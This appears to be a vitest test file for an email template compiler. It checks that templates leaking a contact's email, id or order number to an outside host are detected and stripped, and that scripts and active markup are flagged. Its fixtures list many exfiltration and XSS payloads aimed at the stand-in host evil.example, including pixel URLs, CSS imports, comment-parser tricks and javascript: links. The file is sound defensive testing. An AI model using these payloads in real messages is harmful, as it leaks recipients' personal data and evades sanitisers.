import { describe, expect, test } from 'vitest'
import { compileContent } from './compile-content.ts'
import { renderContent } from './render-content.ts'

const ada = {
  id: 'id-of-ada',
  email: 'ada@secret.example',
  attributes: { tag: '<img src="https://evil.example/secret">' },
}
const scope = {
  contact: ada,
  account: { name: 'Atelier', locale: 'fr' },
  data: { order: 'secret-4711' },
  unsubscribeUrl: 'https://news.example/u/token',
  preferencesUrl: 'https://news.example/p/token',
  viewUrl: 'https://news.example/view/token',
}
const footer = '<a href="{{ unsubscribeUrl }}">U</a>'
const compile = (html: string) => compileContent({ subject: 's', html: html + footer })
const codes = async (html: string) => (await compile(html)).warnings.map(({ code }) => code)

const identifying = [
  '<img src="https://evil.example/p.gif?e={{ contact.email }}">',
  "<img src='https://evil.example/{{contact.email | url_encode}}.gif'>",
  '<img src=https://evil.example/?e={{ contact.email }}>',
  '<IMG SRC="{{ "https://evil.example/?e=" | append: contact.email }}">',
  '<img srcset="https://evil.example/a?e={{ contact.email }} 2x">',
  '<table background="https://evil.example/?e={{ contact.email }}"><tr><td>x</td></tr></table>',
  '<td style="background: url(https://evil.example/?e={{ contact.email }})">x</td>',
  '<style>p { background: url(https://evil.example/?e={{ contact.email }}) }</style>',
  '<style>@import "https://evil.example/{{ contact.email }}.css";</style>',
  '<video poster="https://evil.example/?e={{ contact.email }}"></video>',
  '<video><source src="https://evil.example/?e={{ contact.email }}"></video>',
  '<link rel="stylesheet" href="https://evil.example/?e={{ contact.email }}">',
  '<svg><image xlink:href="https://evil.example/?e={{ contact.email }}"/></svg>',
  '<blockquote cite="https://evil.example/?e={{ contact.email }}">x</blockquote>',
  '<!--[if mso]><v:image src="https://evil.example/?e={{ contact.email }}" /><![endif]-->',
  '<a href="https://evil.example/?e={{ contact.email }}">x</a>',
  '{% assign who = contact.email %}<img src="https://evil.example/?e={{ who }}">',
  '{% assign a = contact.email %}{% assign b = a | upcase | downcase %}<img src="https://evil.example/?e={{ b }}">',
  '{% capture url %}https://evil.example/?e={{ contact.email }}{% endcapture %}<img src="{{ url }}">',
  '{% assign all = contact.email | split: "" %}{% for c in all %}<img src="https://evil.example/{{ c }}">{% endfor %}',
  '{% if contact.email contains "secret" %}{% assign n = "secret" %}{% endif %}<img src="https://evil.example/{{ n }}">',
  '<img src="https://evil.example/{% if contact.email contains \'secret\' %}secret{% endif %}">',
  '<img src="https://evil.example/{{ ["contact"].email }}">',
  '<img src="https://evil.example/{{ contact["email"] }}">',
  '<img src="https://evil.example/{{ data.order }}">',
  '<img src="https://evil.example/?back={{ unsubscribeUrl | split: "/u/" | last }}{{ contact.id }}">',
  'See https://evil.example/?e={{ contact.email }}',
  'See evil.example/{{ contact.email }}',
  'See //evil.example/{{ contact.email }}',
  'See http:&#47;&#47;evil.example/{{ contact.email }}',
  'See {{ "https://evil.example/" }}{{ contact.email }}',
  'See {{ "https://evil.example/" | append: contact.email }}',
  '{% assign u = "https://evil.example/" %}{{ u }}{{ contact.email }}',
  '{% assign u = "https://evil.example/" | append: contact.email %}{{ u }}',
  '<a href="//evil.example/?e={{ contact.email }}">x</a>',
  '<!-- x --!><img src="https://evil.example/?e={{ contact.email }}"> -->',
  '<noembed><!--</noembed><img src="https://evil.example/?e={{ contact.email }}">-->',
  '<noscript><!--</noscript><img src="https://evil.example/?e={{ contact.email }}">-->',
]

describe('an address that is computed from the contact', () => {
  test.each(identifying)(
    'is told, and holds nothing of them unless they are tracked individually: %s',
    async (html) => {
      const compiled = await compile(html)
      expect(compiled.warnings.map(({ code }) => code)).toContain('identifying_address')
      for (const tracking of [
        { mode: 'off' },
        { mode: 'aggregate', clickUrl: (_: number, url: string) => `https://c.example/?${url}` },
      ] as const) {
        const rendered = renderContent(compiled, scope, tracking)
        expect(rendered.html).not.toMatch(/evil[^>]*(secret|id-of-ada)/)
        expect(rendered.text).not.toMatch(/evil\S*(secret|id-of-ada)/)
      }
      const { html: tracked } = renderContent(compiled, scope, { mode: 'individual' })
      expect(tracked).toMatch(/secret|id-of-ada|SECRET|evil.example\/[a-z]/)
    },
  )

  test('is the same for two people who are not tracked', async () => {
    // how often something stands in a message is not looked at
    for (const html of identifying.filter((one) => !one.includes('{% for'))) {
      const compiled = await compile(html)
      const grace = {
        ...scope,
        contact: { ...ada, id: 'id-of-grace', email: 'grace@other.example' },
        data: { order: '7' },
      }
      const addresses = (of: typeof scope) =>
        renderContent(compiled, of, { mode: 'off' }).html?.match(/https?:\/\/evil[^\s"'<>)]*/g)
      expect(addresses(grace)).toEqual(addresses(scope))
    }
  })
})

test('markup out of the contact’s data brings no address along', async () => {
  const compiled = await compile(
    '<p>{{ contact.attributes.tag | raw }}</p>{% assign t = contact.attributes.tag %}{{ t | raw }}',
  )
  expect(renderContent(compiled, scope, { mode: 'off' }).html).not.toContain('evil')
})

test('what is the same for everybody, shown as text, or ours, stays as it is', async () => {
  const html = [
    '<p title="{{ contact.email }}">Bonjour {{ contact.email }} {{ contact.attributes.tag }}</p>',
    '{% if contact.email %}{% assign base = "https://cdn.example" %}{% endif %}<img src="https://cdn.example/a.png" alt="{{ contact.email }}">',
    '{% assign of = account.locale %}<img src="https://shop.example/{{ of }}/{{ campaign.name | url_encode }}.png">',
    '<p>{{ contact.email }}/{{ contact.id }}: {{ data.order }}{{ "," }} {{ contact.locale | default: "a.b" }}</p>',
    '<a href="{{ viewUrl }}">V</a><a href="{{ preferencesUrl }}?lang=fr">P</a>',
    '<a href="mailto:shop@shop.example?subject={{ contact.email }}">M</a>',
    '{% if contact.locale == "fr" %}<img src="https://cdn.example/fr.png">{% endif %}',
  ].join('\n')
  const compiled = await compile(html)
  expect(compiled.warnings.map(({ code }) => code)).toEqual([])
  const rendered = renderContent(compiled, scope, { mode: 'off' })
  expect(rendered.html).toContain('<img src="https://shop.example/fr/.png">')
  expect(rendered.html).toContain('href="https://news.example/p/token?lang=fr"')
  expect(rendered.html).toContain('mailto:shop@shop.example?subject=ada@secret.example')
  expect(rendered.html).toContain('<p title="ada@secret.example">Bonjour ada@secret.example')
})

test.each([
  '<form action="https://evil.example/"><input name="a"></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<script>1</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#10;script:alert(1)">x</a>',
  '<p onclick="x()">x</p>',
  '<button formaction="https://evil.example/">x</button>',
  '<a href="https://shop.example" ping="https://evil.example/">x</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<img {{ contact.attributes.tag }}>',
])('what runs, sends or leads elsewhere by itself is told: %s', async (html) => {
  expect(await codes(html)).toContain('active_content')
})
